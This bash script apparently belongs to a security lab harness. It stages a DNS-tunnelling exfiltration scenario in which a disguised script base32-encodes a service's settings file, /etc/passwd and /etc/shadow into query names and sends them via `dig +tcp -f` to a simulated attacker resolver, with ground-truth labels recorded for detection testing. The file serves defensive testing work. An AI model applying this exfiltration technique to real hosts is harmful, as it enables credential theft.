#!/bin/bash
# Scenario dnsexfil-tcp: DNS tunnelling over TCP port 53 with a stock tool. A shell script
# started later in the container base32-encodes the workload's settings (database password,
# API key), /etc/passwd and /etc/shadow into query names under a random zone, one per line in a
# hidden queue file, then execs `dig +tcp +keepopen -f QUEUE` against an attacker's resolver
# on 127.102.x.y:53, which answers each query after 0.25 s. Checkpointed mid-exfiltration.
# Usage: lab/scenarios/dnsexfil-tcp.sh OUTDIR
source "$(dirname "$0")/../lib/common.sh"
lab_init dnsexfil-tcp "$@"
lab_use_tools_image

RES="$(lab_addr 102):53"
ZONE=$(lab_zone)
SETTINGS=/srv/geo/conf/settings.yaml
QUEUE=/var/tmp/.geo-$(lab_hex 2).q
SCRIPT=/usr/local/sbin/geo-refresh
FILES="$SETTINGS /etc/passwd /etc/shadow"
cat >"$WORK/settings.yaml" <<YEOF
service: geo-lookup
listen: 127.0.0.1:8081
database:
  host: 127.0.0.1
  port: 5432
  user: geo
  password: $(lab_hex 12)
maxmind:
  account_id: $(lab_rand 100000 999999)
  license_key: $(lab_hex 8)_mmk
cache_ttl: 3600
YEOF
lab_template "$SPEC/geo-refresh.sh" "$WORK/geo-refresh.sh" "ZONE=$ZONE" "QUEUE=$QUEUE" "FILES=$FILES" \
    "RES_ADDR=${RES%:*}" "RES_PORT=${RES#*:}"

lab_peer_on resolver "$RES" perl "$PEERS/dns_resolver.pl" --listen "$RES" --proto tcp --zone "$ZONE" \
    --encoding base32 --meta-labels 1 --delay 0.25 --summary "$WORK/peer-resolver.json"

lab_run --env APP_ENV=prod --env GEO_CONFIG=$SETTINGS --hostname geo-lookup -- \
    sh -c 'date > /var/log/app.log; while :; do sleep 3600; done'
lab_cp "$WORK/settings.yaml" "$SETTINGS" 0640
lab_cp "$WORK/geo-refresh.sh" "$SCRIPT" 0755
lab_exec_bg "$SCRIPT"
lab_wait "8 chunks tunnelled" 20 lab_json "$WORK/peer-resolver.json" 'd["in_zone"] >= 8'

lab_finish "$SCRIPT" "$QUEUE" "$SETTINGS"

lab_kv_json "$WORK/params.json" "resolver=$RES" "zone=$ZONE" encoding=base32 transport=tcp \
    "script_path=$SCRIPT" "queue_path=$QUEUE" "settings_path=$SETTINGS" \
    "exfiltrated_files:=$(lab_json_list $FILES)" \
    "query_type=A" "name_format=<base32 56>.<seq>.<zone>" "tool=dig +tcp +keepopen -f"
lab_facts --conn "tunnel=$RES"
lab_truth --description "DNS tunnel over TCP 53: dig -f $QUEUE sends base32 of settings, passwd and shadow under $ZONE to $RES" \
    --params "$WORK/params.json" --facts "$WORK/facts.json"
